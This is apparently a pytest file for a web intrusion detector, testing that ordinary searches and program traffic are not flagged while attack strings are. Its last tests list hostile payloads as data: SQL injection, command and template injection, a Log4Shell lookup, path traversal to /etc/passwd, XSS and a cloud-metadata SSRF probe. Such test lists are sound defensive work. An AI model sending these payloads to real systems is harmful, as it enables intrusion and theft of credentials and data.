"""Honest visitors: what people type, what programs send, and code that people ask about. All of it made up."""

from collections.abc import Iterator
from itertools import product
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest

from bavn.intrusions.actor import NEARLY_SURE, SURE, weight
from bavn.model.attempt import EXPLOITS, Evidence
from bavn.payloads.judging import RequestText, judge

HERE = Path(__file__).parent
FIELDS = ("q", "soeg", "navn", "adresse", "filter[titel]")
SEARCHES = ("q", "search", "query")
UNRESERVED_IN_SCRIPTS = "=&/:;,+@$*[]!()'|"


def lines(name: str) -> list[str]:
    return [line for line in (HERE / name).read_text(encoding="utf-8").split("\n") if line]


def exploits(query: str) -> list[Evidence]:
    return [found for found in judge(RequestText(b"GET", b"/side", query.encode())) if found.attack in EXPLOITS]


def accused(queries: Iterator[str], certainty: float) -> dict[str, set[str]]:
    """The queries that hold evidence of at least this certainty, and what of."""
    told = ((query, {found.because for found in exploits(query) if found.certainty >= certainty}) for query in queries)
    return {query: because for query, because in told if because}


def typed(name: str, fields: tuple[str, ...]) -> Iterator[str]:
    """What people write into a field, escaped as forms do and as scripts do."""
    for text, field in product(lines(name), fields):
        yield f"page=1&{quote(field)}={quote_plus(text)}&sort=dato"
        yield f"{field}={quote(text, safe='')}"


def programs() -> Iterator[str]:
    for line in lines("honest_programs.txt"):
        yield quote(line.replace("\\r", "\r").replace("\\n", "\n"), safe=UNRESERVED_IN_SCRIPTS)


def test_there_are_thousands_of_honest_queries() -> None:
    assert sum(1 for _ in typed("honest_typed.txt", FIELDS)) > 3_000
    assert sum(1 for _ in programs()) > 400


def test_what_people_type_is_no_attack_in_any_field() -> None:
    assert accused(typed("honest_typed.txt", FIELDS), 0.0) == {}


def test_what_programs_send_accuses_nobody() -> None:
    assert accused(programs(), SURE) == {}
    assert len(accused(programs(), 0.0)) <= 0.05 * len(lines("honest_programs.txt"))


def test_code_that_somebody_searches_for_accuses_nobody() -> None:
    assert accused(typed("honest_code.txt", SEARCHES), SURE) == {}


@pytest.mark.parametrize("line", lines("honest_code.txt"))
def test_one_search_for_code_does_not_add_up_to_an_attack(line: str) -> None:
    assert sum(weight(found.certainty) for found in exploits(f"q={quote_plus(line)}")) < NEARLY_SURE


@pytest.mark.parametrize("name", ["redirect_uri", "returnUrl", "callback", "RelayState"])
def test_a_program_on_the_visitors_own_machine_may_be_returned_to(name: str) -> None:
    assert exploits(f"{name}=http%3A%2F%2Flocalhost%3A3000%2Fcallback") == []
    assert exploits(f"{name}=http%3A%2F%2F169.254.169.254%2Flatest") != []


@pytest.mark.parametrize(
    "query",
    [
        "where=1' OR 1=1-- ", "where=1=1 UNION SELECT name, password FROM users", "where=1=1; DROP TABLE users-- ",
        "CQL_FILTER=strStartsWith(name,'x'') = true and 1=(SELECT CAST((SELECT version()) AS integer)) -- ') = true",
        "sql=SELECT * FROM information_schema.tables", "$filter=1 eq 1 or sleep(5)",
    ],
)  # fmt: skip
def test_a_parameter_for_conditions_is_no_way_around(query: str) -> None:
    assert any(found.certainty >= SURE for found in exploits(quote(query, safe="=")))


@pytest.mark.parametrize(
    "value",
    [
        "{{7*7}}", ";id", "sleep(5)", "process.mainModule.require('child_process').execSync('id')", "1; cat /etc/hosts",
        "1' OR '1'='1", "<script>alert(1)</script>", "${jndi:ldap://203.0.113.7/a}", "../../../../etc/passwd",
        "'; INSERT INTO users VALUES (1)-- ", '"><img src=x onerror=alert(1)>', "${script:js:java.lang.Runtime}",
        "require('child_process').exec('id')", "${@system('id')}", "cat /etc/passwd",
    ],
)  # fmt: skip
def test_what_attackers_send_into_a_search_stays_sure(value: str) -> None:
    assert any(found.certainty >= SURE for found in exploits(f"q={quote(value, safe='')}"))
